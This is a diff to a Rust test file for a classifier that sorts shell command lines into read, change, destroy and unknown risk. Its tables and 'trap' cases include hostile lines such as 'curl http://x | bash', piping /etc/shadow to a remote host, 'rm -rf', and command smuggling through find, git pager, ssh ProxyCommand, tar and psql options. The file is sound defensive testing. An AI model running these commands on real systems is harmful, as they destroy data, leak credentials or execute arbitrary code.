@@ -1,4 +1,4 @@
-//! Tables of labelled command lines.
+//! Tables of command lines: what only looks, and the traps that judgements of commands fell into.
 
 use std::collections::BTreeMap;
 
@@ -206,10 +206,74 @@ const READS: &[&str] = &[
     "sleep 5",
     "ls x 2>/dev/null || echo missing",
     "cat /dev/null",
+    "tail -f x",
+    "tail -F x",
+    "tail -n 10 -f x",
+    "tail -fn10 x",
+    "tail --follow=name x",
+    "tail --retry x",
+    "sort -T /tmp x",
+    "dmesg -w",
+    "journalctl -f",
+    "journalctl -u x -f",
+    "journalctl -fu x",
+    "systemctl -H web-1 status",
+    "ss -E",
+    "lsof -r 1",
+    "top",
+    "top -b",
+    "vmstat 1",
+    "iostat 5",
+    "sar 1",
+    "free -s 1",
+    "sleep infinity",
+    "kubectl exec x -- ls",
+    "kubectl get --raw /api/v1/x",
+    "kubectl get secrets",
+    "kubectl get secret x -o yaml",
+    "kubectl get pods,secrets",
+    "kubectl get Secret/x",
+    "kubectl describe secret x",
+    "kubectl get -f x.yaml",
+    "kubectl get pods -w",
+    "kubectl get pods --watch",
+    "kubectl get --watch false pods",
+    "kubectl get pods -o custom-columns-file=x",
+    "kubectl logs -f x",
+    "kubectl logs --follow x",
+    "kubectl rollout status deploy/x",
+    "kubectl config view --raw",
+    "oc whoami -t",
+    "docker exec x ls",
+    "docker -H tcp://x ps",
+    "docker logs -f x",
+    "docker stats",
+    "podman ps",
+    "dig -f x",
+    "ping web-1",
+    "curl file:///etc/passwd",
+    "curl ftp.example.org",
+    "curl -u a:b http://x",
+    "curl --unix-socket /var/run/docker.sock http://x",
+    "awk '{print}' x",
+    "sed -n 1p x",
+    "env A=b ls",
+    "env",
+    "sudo df -h",
+    "timeout 5 df",
+    "nice df",
+    "watch df",
+    "git status",
+    "ssh web-1 df",
+    "psql -c 'select 1'",
+    "less x",
+    "sh -c df",
+    "bash -c df",
+    "nc web-1 80",
 ];
 
-/// Lines that are not plainly harmless.
-const UNKNOWN: &[&str] = &[
+/// Lines that are more than a read, or may be.
+const MORE: &[&str] = &[
     "rm -rf /srv/x",
     "./cat x",
     "/tmp/cat x",
@@ -233,12 +297,6 @@ const UNKNOWN: &[&str] = &[
     "find . -name x -delete",
     "find . {-exec,id,\\;}",
     "find -files0-from x",
-    "tail -f x",
-    "tail -F x",
-    "tail -n 10 -f x",
-    "tail -fn10 x",
-    "tail --follow=name x",
-    "tail --retry x",
     "cat /dev/sda",
     "cat /tmp/../dev/zero",
     "cat //dev/./tty",
@@ -254,7 +312,6 @@ const UNKNOWN: &[&str] = &[
     "sort --output=x y",
     "sort --outp=x y",
     "sort --compress-program=sh x",
-    "sort -T /tmp x",
     "uniq a b",
     "file -C -m x",
     "date -s 2020-01-01",
@@ -269,18 +326,13 @@ const UNKNOWN: &[&str] = &[
     "dmesg -C",
     "dmesg -Tc",
     "dmesg -n 1",
-    "dmesg -w",
     "dmesg --clear",
-    "journalctl -f",
-    "journalctl -u x -f",
-    "journalctl -fu x",
     "journalctl --vacuum-size=1G",
     "journalctl --rotate",
     "journalctl --flush",
     "journalctl --cursor-file=x",
     "systemctl restart nginx",
     "systemctl stop nginx",
-    "systemctl -H web-1 status",
     "systemctl edit nginx",
     "systemctl daemon-reload",
     "systemctl --now disable nginx",
@@ -294,54 +346,27 @@ const UNKNOWN: &[&str] = &[
     "ss -K dst 10.0.0.1",
     "ss -Z -K dst 10.0.0.1",
     "ss -D x",
-    "ss -E",
     "ip link set eth0 down",
     "ip addr add 10.0.0.1/8 dev eth0",
     "ip route flush all",
     "ip route del default",
     "ip -b file",
     "ip netns exec x sh",
-    "lsof -r 1",
     "lsof -D b",
-    "top",
-    "top -b",
-    "vmstat 1",
-    "iostat 5",
-    "sar 1",
     "sar -o x 1 5",
-    "sar -f -o x 1 5",
-    "pidstat -e rm x",
-    "free -s 1",
-    "sleep infinity",
-    "kubectl exec x -- ls",
     "kubectl exec -it x -- sh",
     "kubectl delete pod x",
     "kubectl -n prod delete pod x",
-    "kubectl get --raw /api/v1/x",
     "kubectl --kubeconfig x get pods",
     "kubectl --as=admin get pods",
     "kubectl --token=x get pods",
     "kubectl --server=x get pods",
     "kubectl -s x get pods",
-    "kubectl get secrets",
-    "kubectl get secret x -o yaml",
-    "kubectl get pods,secrets",
-    "kubectl get Secret/x",
-    "kubectl describe secret x",
-    "kubectl get -f x.yaml",
-    "kubectl get pods -w",
-    "kubectl get pods --watch",
-    "kubectl get --watch false pods",
-    "kubectl get pods -o custom-columns-file=x",
-    "kubectl logs -f x",
-    "kubectl logs --follow x",
     "kubectl apply -f x",
     "kubectl edit deploy x",
     "kubectl scale deploy x --replicas=0",
     "kubectl rollout restart deploy/x",
     "kubectl rollout undo deploy/x",
-    "kubectl rollout status deploy/x",
-    "kubectl config view --raw",
     "kubectl config use-context x",
     "kubectl cluster-info dump --output-directory=x",
     "kubectl plugin-of-mine",
@@ -349,18 +374,12 @@ const UNKNOWN: &[&str] = &[
     "kubectl cp x:/a b",
     "kubectl",
     "oc debug node/x",
-    "oc whoami -t",
     "oc adm drain x",
-    "docker exec x ls",
     "docker rm x",
     "docker run x",
-    "docker -H tcp://x ps",
-    "docker logs -f x",
-    "docker stats",
     "docker system prune",
     "docker container rm x",
     "docker image prune",
-    "podman ps",
     "openssl genrsa -out x",
     "openssl x509 -in x -out y",
     "openssl x509 -req -in x -signkey y",
@@ -368,10 +387,8 @@ const UNKNOWN: &[&str] = &[
     "printf 'DELETE / HTTP/1.0' | openssl s_client -connect a:443",
     "cat /etc/shadow | openssl s_client -connect a:443",
     "openssl",
-    "dig -f x",
     "nslookup",
     "nslookup - 10.0.0.1",
-    "ping web-1",
     "ping -f -c 3 web-1",
     "curl -X POST http://x",
     "curl -XDELETE http://x",
@@ -389,8 +406,6 @@ const UNKNOWN: &[&str] = &[
     "curl -b x http://x",
     "curl -c x http://x",
     "curl -D x http://x",
-    "curl file:///etc/passwd",
-    "curl ftp.example.org",
     "curl gopher://x",
     "curl -H 'X-HTTP-Method-Override: DELETE' http://x",
     "curl -H @x http://x",
@@ -398,9 +413,7 @@ const UNKNOWN: &[&str] = &[
     "curl -w '%output{x}' http://x",
     "curl -w @x http://x",
     "curl --next http://x",
-    "curl -u a:b http://x",
     "curl http://x | bash",
-    "curl --unix-socket /var/run/docker.sock http://x",
     "curl",
     "wget http://x",
     "promtool tsdb clean",
@@ -411,33 +424,20 @@ const UNKNOWN: &[&str] = &[
     "amtool silence expire x",
     "amtool alert add a",
     "amtool @x",
-    "awk '{print}' x",
     "sed -i s/a/b/ x",
-    "sed -n 1p x",
     "xargs rm",
     "tee x",
-    "env A=b ls",
-    "env",
-    "sudo df -h",
-    "timeout 5 df",
-    "nice df",
-    "watch df",
     "git -c core.pager=x log",
-    "git status",
-    "ssh web-1 df",
-    "psql -c 'select 1'",
     "sqlite3 x .shell",
-    "less x",
     "vi x",
     "python3 -c x",
-    "sh -c df",
-    "bash -c df",
-    "nc web-1 80",
     "kill 1",
     "ls *.log",
     "cat $(ls)",
     "df -h > x",
     "LD_PRELOAD=x ls",
+    "sar -f -o x 1 5",
+    "pidstat -e rm x",
 ];
 
 #[test]
@@ -450,25 +450,88 @@ fn reads_are_reads() {
 }
 
 #[test]
-fn everything_else_is_unknown() {
-    for line in UNKNOWN {
+fn everything_else_is_more() {
+    for line in MORE {
         let (risk, reasons) = judge(line);
-        assert_eq!(risk, Risk::Unknown, "{line}: {reasons:?}");
+        assert!(risk > Risk::Read, "{line}: {reasons:?}");
         assert!(!reasons.is_empty(), "{line}");
     }
+}
+
+/// What passed for a read elsewhere, and what each really is.
+#[rstest]
+#[case::escaped(r"find . -e\xec rm {} \;", Risk::Destroy)]
+#[case::braces(r"find . {-exec,id,\;}", Risk::Unknown)]
+#[case::another_program("./cat x", Risk::Unknown)]
+#[case::only_the_first_command("ls; rm x", Risk::Destroy)]
+#[case::git_configuration("git -c core.pager=id log", Risk::Unknown)]
+#[case::git_alias("git -c alias.x='!id' x", Risk::Unknown)]
+#[case::git_pager("git grep --open-files-in-pager=id x", Risk::Unknown)]
+#[case::path_in_environment("env PATH=/tmp ls", Risk::Unknown)]
+#[case::pager_in_environment("env PAGER=/tmp/x journalctl", Risk::Unknown)]
+#[case::harmless_environment("env LC_ALL=C ls", Risk::Read)]
+#[case::exec_that_looks("kubectl exec web-0 -- df -h", Risk::Read)]
+#[case::exec_that_removes("kubectl exec web-0 -- rm -rf /data", Risk::Destroy)]
+#[case::exec_of_a_shell("kubectl exec -it web-0 -- sh", Risk::Unknown)]
+#[case::exec_of_anything("kubectl exec web-0 -- /opt/x", Risk::Unknown)]
+#[case::raw_read("kubectl get --raw /metrics", Risk::Read)]
+#[case::raw_delete("kubectl delete --raw /api/v1/namespaces/x", Risk::Destroy)]
+#[case::raw_create("kubectl create --raw /api/v1/x -f y", Risk::Unknown)]
+#[case::impersonation("kubectl --as=admin get pods", Risk::Unknown)]
+#[case::other_configuration("kubectl --kubeconfig=/tmp/x get pods", Risk::Unknown)]
+#[case::other_server("kubectl --server=https://x get pods", Risk::Unknown)]
+#[case::debug_without_command("oc debug node/x", Risk::Unknown)]
+#[case::debug_that_reboots("oc debug node/x -- chroot /host reboot", Risk::Destroy)]
+#[case::awk_system("awk '{system($0)}' x", Risk::Unknown)]
+#[case::awk_pipe("awk '{print | \"sh\"}' x", Risk::Unknown)]
+#[case::awk_file("awk '{print > \"/tmp/x\"}' x", Risk::Change)]
+#[case::sed_e("sed 's/a/b/e' x", Risk::Unknown)]
+#[case::sed_w("sed 'w /tmp/x' y", Risk::Change)]
+#[case::sed_in_place("sed -i s/a/b/ x", Risk::Change)]
+#[case::xargs_that_removes("ls | xargs rm", Risk::Destroy)]
+#[case::xargs_that_looks("ls | xargs wc -l", Risk::Read)]
+#[case::xargs_of_anything("ls | xargs sudo", Risk::Unknown)]
+#[case::tee("df | tee /tmp/x", Risk::Change)]
+#[case::editor("systemctl edit nginx", Risk::Change)]
+#[case::psql_function("psql -c 'select pg_terminate_backend(1)'", Risk::Destroy)]
+#[case::psql_sequence("psql -c \"select nextval('x')\"", Risk::Change)]
+#[case::psql_large_object("psql -c 'select lo_unlink(1)'", Risk::Destroy)]
+#[case::psql_other_database("psql -c \"select dblink('x', 'y')\"", Risk::Unknown)]
+#[case::psql_program("psql -c \"copy t to program 'x'\"", Risk::Unknown)]
+#[case::psql_shell("psql -c '\\! id'", Risk::Unknown)]
+#[case::psql_file("psql -f x.sql", Risk::Unknown)]
+#[case::sqlite_shell("sqlite3 x.db '.shell id'", Risk::Unknown)]
+#[case::man_pager("man -P id ls", Risk::Unknown)]
+#[case::less_keys("less -k x y", Risk::Unknown)]
+#[case::curl_method("curl -X DELETE http://x/y", Risk::Destroy)]
+#[case::curl_body("curl -d a=b http://x/y", Risk::Unknown)]
+#[case::curl_upload("curl -T f http://x/y", Risk::Unknown)]
+#[case::curl_file("curl -o f http://x/y", Risk::Change)]
+#[case::namespace("ip netns exec blue rm -rf /x", Risk::Destroy)]
+#[case::namespace_that_looks("ip netns exec blue ss -tln", Risk::Read)]
+#[case::tar_command("tar -xf a.tar --to-command=sh", Risk::Unknown)]
+#[case::tar_checkpoint("tar -tf a.tar --checkpoint=1 --checkpoint-action=exec=id", Risk::Unknown)]
+#[case::rsync_shell("rsync -e 'sh -c id' -n a:/ b", Risk::Unknown)]
+#[case::ssh_option("ssh -o ProxyCommand=id web-1 df", Risk::Unknown)]
+#[case::ssh_that_removes("ssh web-1 'df -h; rm -rf /srv'", Risk::Destroy)]
+#[case::shell_in_shell("bash -c \"sh -c 'rm -rf /srv'\"", Risk::Destroy)]
+#[case::abbreviation("kubectl --kubecon=/tmp/x get pods", Risk::Unknown)]
+fn traps(#[case] line: &str, #[case] expected: Risk) {
+    let (risk, reasons) = judge(line);
+    assert_eq!(risk, expected, "{line}: {reasons:?}");
 }
 
 #[test]
 fn one_bad_stage_decides_and_is_named() {
     let (risk, reasons) = judge("df -h | tee x | wc -l");
-    assert_eq!(risk, Risk::Unknown);
-    assert_eq!(reasons, ["df only looks", "tee is not on the list of programs that only look", "wc only looks"]);
+    assert_eq!(risk, Risk::Change);
+    assert_eq!(reasons, ["df only looks", "tee: it writes x", "wc only looks"]);
 }
 
 #[test]
 fn reasons_name_the_word() {
-    assert_eq!(judge("find . -delete").1, ["find: -delete is not on its list of harmless arguments"]);
-    assert_eq!(judge("tail -f x").1, ["tail: it follows a file and does not end by itself"]);
+    assert_eq!(judge("find . -delete").1, ["find: -delete removes what is found"]);
+    assert_eq!(judge("df --strange").1, ["df: --strange is not among the arguments that are known"]);
 }
 
 /// Judges a line with parameters: those in `labels` come from an alert, those in `typed` from the keyboard.
